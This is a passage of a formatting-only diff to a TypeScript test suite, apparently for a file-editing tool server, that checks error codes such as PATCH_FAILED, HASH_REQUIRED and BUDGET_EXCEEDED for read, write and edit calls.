       await s.client.callOk('read_file', { path: f });
       await s.client.callOk('write_file', { path: f, content: 'dry\n', dry_run: true });
-      expectCode(await s.client.call('edit_file', { path: f, edits: [{ old_text: 'not there', new_text: 'x' }] }), 'PATCH_FAILED');
+      expectCode(
+        await s.client.call('edit_file', { path: f, edits: [{ old_text: 'not there', new_text: 'x' }] }),
+        'PATCH_FAILED',
+      );
       await s.client.callOk('write_file', { path: f, content: 'v1\n' });
       await s.client.callOk('edit_file', { path: f, edits: [{ old_text: 'v1', new_text: 'v2' }] });
       expect(bytesOf(f).toString()).toBe('v2\n');
@@ -669,9 +871,13 @@ describe.each(ERAS)('process flags (%s era)', (era) => {
       const calls = [
         s.client.call('write_file', { path: path.join(d, 'unread.txt'), content: 'x\n' }), // HASH_REQUIRED
         s.client.call('edit_file', { path: path.join(d, 'missing.txt'), edits: [{ old_text: 'a', new_text: 'b' }] }), // NOT_FOUND
-        ...Array.from({ length: 8 }, (_, i) => s.client.call('write_file', { path: path.join(d, `f${i}.txt`), content: `${i}\n` })),
+        ...Array.from({ length: 8 }, (_, i) =>
+          s.client.call('write_file', { path: path.join(d, `f${i}.txt`), content: `${i}\n` }),
+        ),
       ];
-      const codes = (await Promise.all(calls)).map((r) => (r.isError ? expectCode(r, JSON.parse(r.content[0].text!).error.code).error.code : 'ok'));
+      const codes = (await Promise.all(calls)).map((r) =>
+        r.isError ? expectCode(r, JSON.parse(r.content[0].text!).error.code).error.code : 'ok',
+      );
       expect(codes.slice(0, 2)).toEqual(['HASH_REQUIRED', 'NOT_FOUND']);
       expect(codes.filter((c) => c === 'ok')).toHaveLength(3);
       expect(codes.filter((c) => c === 'BUDGET_EXCEEDED')).toHaveLength(5);
